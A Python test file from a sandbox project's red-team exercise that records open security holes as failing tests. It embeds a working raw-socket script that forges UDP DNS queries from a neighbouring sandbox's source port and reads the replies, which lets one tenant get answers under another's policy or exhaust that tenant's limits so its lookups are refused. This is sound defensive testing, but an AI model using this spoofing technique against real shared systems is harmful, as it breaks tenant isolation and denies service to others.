# SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
# Red team 3: holes found (tests that assert the SECURE behaviour and fail
# today). run.py does not load this file (not test_*.py); to run it:
#   ln -s holes_redteam3.py tests/e2e/test_zz_holes_redteam3.py
#   python3 tests/e2e/run.py --build build -k redteam3_hole -v
#   rm tests/e2e/test_zz_holes_redteam3.py

import struct
import subprocess
import sys

from harness import *  # noqa: F401,F403 (Ctx, Sandbox, check, ...: harness/__init__.py)
from test_dnsscale import dsc_hold, dsc_port4, dsc_proxy
from test_tenant import TnBlackholeUpstream, tn_with_upstream


# Sandbox A, with "raw" in allow_sockets and CAP_NET_RAW (root in an
# attach-mode sandbox), writes UDP datagrams whose header names B's
# recorded source port, straight to the shared listener, and reads every
# UDP datagram of the namespace on the same raw socket (a raw IPPROTO_UDP
# socket gets a copy of each): the proxy's answers to B's port.
RT3_RAW_FORGE = r"""
import socket, struct, sys, time
sport, lport, name, n = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
s.settimeout(0.3)
got, rcodes = 0, {}
for i in range(n):
    q = struct.pack(">HHHHHH", 0x5500 + i, 0x0100, 1, 0, 0, 0)
    for label in name.replace("{i}", str(i)).split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\0" + struct.pack(">HH", 1, 1)
    udp = struct.pack(">HHHH", sport, lport, 8 + len(q), 0) + q
    s.sendto(udp, ("127.0.0.1", 0))
    end = time.monotonic() + 0.5
    while time.monotonic() < end:
        try:
            m = s.recv(4096)
        except socket.timeout:
            break
        ihl = (m[0] & 15) * 4
        src, dst = struct.unpack(">HH", m[ihl:ihl + 4])
        if src == lport and dst == sport and len(m) >= ihl + 12:
            qid, fl = struct.unpack(">HH", m[ihl + 8:ihl + 12])
            if qid == 0x5500 + i:
                got += 1
                rcodes[fl & 15] = rcodes.get(fl & 15, 0) + 1
                break
print("sent", n, "answered", got, "rcodes", rcodes, flush=True)
"""


@test
def redteam3_hole_raw_forged_source_served_as_neighbour(c):
    """Hostile: sandbox A may open raw sockets (allow_sockets ["raw"], root
    with CAP_NET_RAW in attach mode) but may not resolve api.test; B may.
    A forges UDP queries from B's recorded source 127.0.0.1:P to the shared
    listener. A's cgroup_skb/egress does not record a raw socket (right)
    but lets the datagram reach the listener, where the proxy looks up
    egr_dns_senders by (listener port, 127.0.0.1, P) and finds B: A's
    queries are answered under B's policy, counted against B, and A reads
    the answers with the same raw socket. Secure: nothing A sends is
    served as B (B's allowed count does not move, A reads no answer).
    Twin: B's own query from that socket is answered."""
    need_dnsmasq(c)
    pb = c.policy([], tenant="rt3h-b", extra_network=dict(DNS_REBIND_LO,
                                                         dns_allow=["api.test"]))
    pa = c.policy([], sockets=["raw"], tenant="rt3h-a",
                  extra_network=dict(DNS_REBIND_LO, dns_allow=["other-%s.test" % RAND]))
    with Sandbox(c, pb, "rt3h-b") as b, Sandbox(c, pa, "rt3h-a") as a:
        sport = free_udp_tcp_port("127.0.0.1")
        hb = dsc_hold(b.cg, sport, "api.test", 6)
        CLEANUP.push("rt3 holder", lambda: hb.poll() is None and hb.kill())
        first = hb.stdout.readline().strip()
        check(first == "0", "B's own query (twin) was not answered NOERROR: %r" % first)
        b0 = dsc_proxy(c, b)
        r = subprocess.run([sys.executable, "-c", RT3_RAW_FORGE, str(sport),
                            str(dsc_port4(c, b)), "api.test", "5"],
                           stdin=subprocess.DEVNULL, capture_output=True, text=True,
                           timeout=30, preexec_fn=join_cgroup_fn(a.cg))
        b1 = dsc_proxy(c, b)
        log("raw forger: rc %d %r %r; B %r -> %r" % (r.returncode, r.stdout, r.stderr[-300:],
                                                    b0, b1))
        check(r.returncode == 0, "the raw socket could not be used: %r" % r.stderr[-300:])
        hb.kill()
        check(b1["allowed"] == b0["allowed"],
              "A's forged queries from B's source were served as B: allowed %d -> %d" %
              (b0["allowed"], b1["allowed"]))
        check("answered 0 " in r.stdout, "A read answers served under B's policy: %r" %
              r.stdout)


@test
def redteam3_hole_raw_forged_nxdomains_silence_neighbour(c):
    """The same forgery used against B's availability: A sends 40 queries
    for names under B's allowed *.nx.test that do not exist (an upstream
    answering NXDOMAIN below nx.test, test_tenant's) from B's recorded
    source; each NXDOMAIN counts against B's exfiltration limit (30 a
    minute) and B's own lookups are then REFUSED. Secure: B's own lookup
    of api.test after the forgeries is answered. Twin: it is answered
    before them."""
    need_dnsmasq(c)
    up = TnBlackholeUpstream(c)
    CLEANUP.push("nx dnsmasq", up.stop)

    def body():
        pb = c.policy([], tenant="rt3n-b", extra_network=dict(
            DNS_REBIND_LO, dns_allow=["api.test", "*.nx.test"]))
        pa = c.policy([], sockets=["raw"], tenant="rt3n-a",
                      extra_network=dict(DNS_REBIND_LO, dns_allow=["other-%s.test" % RAND]))
        with Sandbox(c, pb, "rt3n-b") as b, Sandbox(c, pa, "rt3n-a") as a:
            dns_ok(c, b, "api.test", want=DNS_ZONE["api.test"])
            sport = free_udp_tcp_port("127.0.0.1")
            hb = dsc_hold(b.cg, sport, "api.test", 15)
            CLEANUP.push("rt3 holder", lambda: hb.poll() is None and hb.kill())
            check(hb.stdout.readline().strip() == "0", "B's own query (twin) not answered")
            r = subprocess.run([sys.executable, "-c", RT3_RAW_FORGE, str(sport),
                                str(dsc_port4(c, b)), "x{i}-%s.nx.test" % RAND, "40"],
                               stdin=subprocess.DEVNULL, capture_output=True, text=True,
                               timeout=60, preexec_fn=join_cgroup_fn(a.cg))
            hb.kill()
            log("raw forger: rc %d %r %r; B %r" % (r.returncode, r.stdout, r.stderr[-300:],
                                                  dsc_proxy(c, b)))
            check(r.returncode == 0, "the raw socket could not be used: %r" % r.stderr[-300:])
            dns_ok(c, b, "api.test", want=DNS_ZONE["api.test"])

    tn_with_upstream(c, up.port, [], body)
